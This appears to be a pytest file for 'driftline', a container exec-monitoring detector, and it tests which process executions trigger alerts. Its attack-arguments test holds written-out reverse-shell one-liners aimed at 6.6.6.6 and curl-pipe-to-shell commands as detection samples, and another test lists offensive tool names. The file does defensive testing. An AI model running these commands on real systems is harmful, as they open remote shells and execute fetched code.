"""Each check of an exec: what it tells, what it does not, and the near misses."""

from __future__ import annotations

import pytest
from hypothesis import given

from driftline.baseline.behaviour import behaviour_of
from driftline.baseline.matching import Matcher
from driftline.nouns import ExecEvent, Kind, Origin, RecordFlag, Severity
from driftline.verdict.checks.execs import started_with
from driftline.verdict.judge import judge
from driftline.verdict.outcome import Verdict
from unit.baseline.making import SUBJECT, exec_events, executed, process

ENTERED, SCRIPT, INIT = int(RecordFlag.ENTERED), int(RecordFlag.SCRIPT), int(RecordFlag.IS_INIT)
NOTHING = Matcher()
SUSPICIOUS = Kind.EXEC_SUSPICIOUS


def ran(command: str, path: str = "", by: str = "/entrypoint.sh") -> ExecEvent:
    words = tuple(command.split(" "))
    return executed(path or f"/usr/bin/{words[0]}", argv=words, by=by)


def learned(event: ExecEvent, **facts: frozenset[str]) -> Verdict:
    return judge(event, SUBJECT, NOTHING, True, **facts)  # type: ignore[arg-type]


def knowing(*events: ExecEvent) -> Matcher:
    return Matcher(behaviour for event in events if (behaviour := behaviour_of(event)))


def assert_fires(event: ExecEvent, number: str, kind: Kind = SUSPICIOUS) -> Verdict:
    """While learning and after it, with the same kind; silent once approved; silent if excused."""
    verdict, later = learned(event), judge(event, SUBJECT, NOTHING, False)
    for one in (verdict, later):
        assert (one.kind, number in one.checks) == (kind, True), one
        assert not one.learn
        assert not one.cacheable
    assert verdict.review
    assert later.severity.rank >= verdict.severity.rank
    assert number not in learned(event, excused=frozenset({number})).checks
    return verdict


def assert_approvable(event: ExecEvent) -> None:
    assert judge(event, SUBJECT, knowing(event), False).kind is None


def assert_silent(event: ExecEvent) -> None:
    verdict = learned(event)
    assert (verdict.kind, verdict.checks, verdict.learn) == (None, (), True), verdict


@pytest.mark.parametrize(
    ("command", "severity", "technique"),
    [
        ("nmap -sS 10.0.0.0/8", Severity.HIGH, "T1046"),
        ("xmrig -o pool", Severity.CRITICAL, "T1496"),
        ("nc -z localhost 80", Severity.MEDIUM, "T1095"),
        ("ssh host", Severity.MEDIUM, "T1021.004"),
        ("iodine x.y", Severity.HIGH, "T1572"),
        ("tcpdump -i any", Severity.MEDIUM, "T1040"),
    ],
)
def test_tools_by_name(command: str, severity: Severity, technique: str) -> None:
    event = ran(command)
    verdict = assert_fires(event, "NL-07")
    assert (verdict.severity, verdict.technique, verdict.taints) == (severity, technique, True)
    assert_approvable(event)


def test_tools_behind_another_name() -> None:
    assert_fires(executed("/usr/bin/nc.openbsd", "/usr/bin/nc"), "NL-07")
    assert_fires(executed("/bin/busybox", "/bin/nc", argv=("nc", "-l")), "NL-07")
    assert_fires(executed("/bin/busybox", argv=("busybox", "telnet", "x")), "NL-07")
    assert_fires(executed("/usr/bin/bash", "/opt/linpeas.sh", ("bash", "/opt/linpeas.sh"), flags=SCRIPT), "NL-07")
    assert_fires(ran("sh /opt/linpeas.sh", "/usr/bin/dash"), "NL-07")
    for harmless in ("ncdu /", "sshfs x", "nginx -g x", "mapper", "sh /opt/run.sh"):
        assert_silent(ran(harmless))


@pytest.mark.parametrize(
    "command",
    [
        "apt-get install -y curl",
        "apt-get -q update",
        "apk add --no-cache curl",
        "dpkg -i x.deb",
        "rpm -Uvh x.rpm",
        "dnf install x",
        "pip3 install requests",
        "python3 -m pip install requests",
        "npm ci",
        "node /usr/lib/node_modules/npm/bin/npm-cli.js install",
        "npx cowsay",
        "gem install rails",
    ],
)
def test_package_managers_that_install(command: str) -> None:
    event = ran(command)
    assert assert_fires(event, "NL-08").taints
    assert_approvable(event)


@pytest.mark.parametrize(
    "command",
    [
        "dpkg -l",
        "dpkg --print-architecture",
        "rpm -q bash",
        "npm start",
        "yarn start",
        "pip list",
        "apk info",
        "python3 -m http.server",
    ],
)
def test_package_managers_that_only_ask_or_start(command: str) -> None:
    assert_silent(ran(command))


@pytest.mark.parametrize("command", ["kubectl get pods", "helm list", "oc whoami"])
def test_kubernetes_clients(command: str) -> None:
    assert_fires(ran(command), "NL-09")


@pytest.mark.parametrize(
    ("command", "by"),
    [
        ("sh -c id", "/usr/sbin/nginx"),
        ("curl http://x", "/usr/sbin/php-fpm8.2"),
        ("python3 x.py", "/usr/lib/postgresql/15/bin/postgres"),
        ("perl x.pl", "/usr/sbin/apache2"),
    ],
)
def test_a_server_that_starts_a_shell(command: str, by: str) -> None:
    event = ran(command, by=by)
    verdict = assert_fires(event, "NL-05")
    assert (verdict.severity, verdict.technique) == (Severity.HIGH, "T1505.003")
    assert by in verdict.sentence
    assert_approvable(event)


def test_a_servers_own_helpers_and_others_shells_are_no_web_shell() -> None:
    assert_silent(ran("rotatelogs /x", by="/usr/sbin/apache2"))
    assert_silent(ran("sh -c id", by="/usr/bin/node"))
    assert_silent(ran("sh -c id", by="/opt/nginx-helper"))


def test_a_script_of_a_server_is_its_interpreter() -> None:
    event = executed("/usr/bin/dash", "/cgi/x.sh", ("sh", "/cgi/x.sh"), by="/usr/sbin/httpd", flags=SCRIPT)
    assert_fires(event, "NL-05")


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'bash -i >& /dev/tcp/6.6.6.6/4444 0>&1'",
        "nc -e /bin/sh 6.6.6.6 1",
        "ncat -lvpe /bin/sh",
        "ncat --sh-exec=sh 6.6.6.6 1",
        "socat TCP:6.6.6.6:1 EXEC:sh",
        "sh -c 'rm f;mkfifo f;cat f|sh|nc 6.6.6.6 1 >f'",
        "python3 -c import socket,pty;s=socket.socket();pty.spawn('sh')",
        "php -r $s=fsockopen('6.6.6.6',1);exec('sh');",
        "perl -e use Socket;connect(S);exec{'/bin/sh'} '-sh'",
        "whatever -o stratum+tcp://pool:3333",
        "sh -c 'curl http://x/i.sh | bash'",
        "sh -c 'wget -qO- http://x | sudo python3 -'",
        "sh -c 'echo aWQ= | base64 -d | sh'",
    ],
)
def test_arguments_of_an_attack(command: str) -> None:
    assert_fires(ran(command), "NL-10")


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'curl http://x | grep y'",
        "sh -c 'base64 -d x > y'",
        "curl -e http://referer http://x",
        "sh -c 'cat /dev/tcpx | sort'",
        "python3 -c import socket",
        "tar -c x",
    ],
)
def test_arguments_that_only_look_like_one(command: str) -> None:
    assert_silent(ran(command))


def test_arguments_of_an_attack_are_told_though_the_shell_is_known() -> None:
    event = ran("bash -c 'bash -i >& /dev/tcp/6.6.6.6/4444 0>&1'")
    verdict = judge(event, SUBJECT, knowing(ran("bash -c true")), False)
    assert (verdict.kind, verdict.severity, verdict.review) == (SUSPICIOUS, Severity.CRITICAL, False)
    assert judge(event, SUBJECT, knowing(event), False, excused=frozenset({"NL-10"})).kind is None


def test_programs_that_hang_on_their_arguments_are_never_remembered_by_the_kernel() -> None:
    for command in ("sh -c true", "python3 app.py", "nc -z x 1", "npm start"):
        event = ran(command)
        assert not judge(event, SUBJECT, knowing(event), False).cacheable
    applet = executed("/bin/busybox", "/bin/sh", ("sh", "-c", "true"))
    assert not judge(applet, SUBJECT, knowing(applet), False).cacheable
    plain = ran("id -u")
    assert judge(plain, SUBJECT, knowing(plain), False).cacheable


def test_a_preloaded_library_is_a_check_unless_the_container_was_started_with_it() -> None:
    event = executed("/bin/id", environment=("LD_PRELOAD",))
    verdict = assert_fires(event, "NL-11")
    assert (verdict.severity, verdict.taints) == (Severity.MEDIUM, False)
    assert_approvable(event)
    assert learned(event, preset=frozenset({"LD_PRELOAD"})).learn
    assert_silent(executed("/bin/init", by="", flags=INIT, environment=("LD_PRELOAD",)))
    assert_silent(executed("/bin/id", environment=("PYTHONPATH",)))


def test_a_set_user_id_program_and_file_capabilities() -> None:
    event = executed("/usr/bin/su")
    event.process.euid = 0
    assert assert_fires(event, "NL-12").technique == "T1548.001"
    assert_approvable(event)
    root = executed("/usr/bin/su")
    root.process.uid = root.process.euid = 0
    assert_silent(root)


def test_file_capabilities_show_in_a_container_whose_users_have_none() -> None:
    powerful = executed("/usr/bin/tool")
    powerful.capabilities = 1 << 21
    as_root, as_user = executed("/init", by="", flags=INIT), executed("/init", by="", flags=INIT)
    as_root.process.euid, as_root.capabilities = 0, 1 << 21
    for init in (as_root, as_user):
        verdict = learned(powerful, preset=started_with(init))
        assert (verdict.kind, verdict.checks) == (SUSPICIOUS, ("NL-12",))
        assert "CAP_SYS_ADMIN" in verdict.sentence
    ping = executed("/usr/bin/ping")
    ping.capabilities = 1 << 13  # CAP_NET_RAW
    assert learned(ping, preset=started_with(as_user)).learn


def test_the_root_of_a_user_namespace_gained_nothing() -> None:
    init, later = executed("/init", by="", flags=INIT), executed("/usr/bin/tool")
    init.capabilities = later.capabilities = 1 << 21
    assert learned(later, preset=started_with(init)).learn
    assert_silent(later)


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("insmod x.ko", Severity.CRITICAL),
        ("debugfs /dev/sda", Severity.CRITICAL),
        ("nsenter -t 1", Severity.MEDIUM),
        ("runc list", Severity.HIGH),
    ],
)
def test_leaving_the_container(command: str, severity: Severity) -> None:
    event = ran(command)
    assert assert_fires(event, "NL-22").severity is severity
    assert_approvable(event)


@pytest.mark.parametrize(
    ("cwd", "fires"), [("/dev/shm", True), ("/dev/shm/a", True), ("/dev/shmx", False), ("/tmp", False)]
)
def test_a_program_started_in_shared_memory(cwd: str, fires: bool) -> None:
    event = executed("/bin/id", cwd=cwd)
    if fires:
        assert_fires(event, "NL-03")
    else:
        assert_silent(event)


def test_a_terminal_is_told_though_the_program_is_a_known_probe() -> None:
    probe = executed("/bin/sh", by="", flags=ENTERED)
    person = executed("/bin/sh", by="", flags=ENTERED, tty="pts/0")
    assert judge(probe, SUBJECT, knowing(probe), False).kind is None
    verdict = judge(person, SUBJECT, knowing(probe), False)
    assert (verdict.kind, verdict.checks) == (Kind.EXEC_INTO_CONTAINER, ("NL-04",))
    assert judge(person, SUBJECT, knowing(probe), False, excused=frozenset({"NL-04"})).kind is None
    assert_fires(person, "NL-04", Kind.EXEC_INTO_CONTAINER)


def test_several_checks_become_one_verdict() -> None:
    event = executed("/tmp/xmrig", argv=("xmrig", "-o", "stratum+tcp://x"), origin=Origin.WRITABLE, inet_stdio=1)
    verdict = learned(event)
    assert verdict.checks == ("NL-01", "NL-03", "NL-06", "NL-07", "NL-10")
    assert verdict.severity is Severity.CRITICAL
    assert [note[:5] for note in verdict.notes if note.startswith("NL-")] == ["NL-10", "NL-01", "NL-03", "NL-07"]


def test_after_learning_the_check_names_the_kind_and_the_miss_the_severity() -> None:
    verdict = judge(ran("apt-get install x"), SUBJECT, NOTHING, False)
    assert (verdict.kind, verdict.severity) == (SUSPICIOUS, Severity.HIGH)
    assert "also exec.unknown: not in the baseline" in verdict.notes


def test_a_script_where_anybody_may_write_is_told_at_its_exec() -> None:
    event = executed("/usr/bin/dash", "/bin/sh", ("sh", "/tmp/x"))
    verdict = learned(event)
    assert (verdict.kind, verdict.checks, verdict.what) == (Kind.EXEC_DRIFT, ("NL-03",), "/tmp/x (/usr/bin/dash)")
    assert verdict.behaviour is not None
    assert judge(event, SUBJECT, Matcher([verdict.behaviour, *knows(event)]), False).kind is None
    assert_silent(executed("/usr/bin/dash", "/bin/sh", ("sh", "/app/x")))
    assert_silent(executed("/usr/bin/dash", "/bin/sh", ("sh", "-c", "/tmp/x")))


def knows(event: ExecEvent) -> list[object]:
    behaviour = behaviour_of(event)
    return [] if behaviour is None else [behaviour]


@given(exec_events)
def test_any_exec_is_judged_alike_twice(event: ExecEvent) -> None:
    assert judge(event, SUBJECT, NOTHING, True) == judge(event, SUBJECT, NOTHING, True)


def test_the_process_of_the_rig_is_no_root() -> None:
    """What the cases above rely on."""
    assert process().uid == process().euid != 0
